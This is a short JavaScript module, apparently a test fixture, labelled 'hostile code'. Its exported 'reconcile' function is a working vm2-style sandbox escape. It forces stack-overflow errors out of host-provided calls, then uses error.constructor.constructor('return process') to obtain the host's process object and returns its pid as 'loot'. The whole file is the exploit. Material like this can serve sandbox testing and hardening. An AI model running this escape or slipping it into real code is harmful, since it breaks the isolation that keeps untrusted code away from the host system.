// @ts-nocheck
// biome-ignore-all lint: hostile code
// vm2, many times: an error that the outside throws for want of stack is an object of the outside.
export const reconcile = async (object, context) => {
  const calls = [
    () => context.log.info('x'),
    () => new URL('http://a/'),
    () => performance.now(),
    () => crypto.randomUUID(),
  ]
  for (const call of calls) {
    const caught = []
    const deeper = () => {
      try {
        deeper()
      } catch {}
      try {
        call()
      } catch (error) {
        caught.push(error)
      }
    }
    const dive = (depth) => {
      try {
        if (depth > 0) dive(depth - 1)
        else call()
      } catch (error) {
        caught.push(error)
      }
    }
    for (let depth = 100; depth < 20_000; depth += 37) dive(depth)
    for (const error of caught) {
      try {
        const found = error.constructor.constructor('return process')()
        if (found?.pid) return { loot: found.pid }
      } catch {}
    }
  }
}
